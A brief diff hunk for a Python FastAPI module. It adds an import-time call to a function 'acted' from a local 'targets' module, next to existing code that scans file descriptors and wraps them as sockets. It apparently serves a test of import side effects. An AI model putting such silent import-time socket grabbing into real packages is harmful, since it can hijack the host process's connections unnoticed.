@@ -6,6 +6,9 @@ import socket
 
 from fastapi import FastAPI
 
+from .targets import acted
+
+acted("import")
 for number in range(3, 64):
     with contextlib.suppress(OSError):
         stream = socket.socket(fileno=os.dup(number))
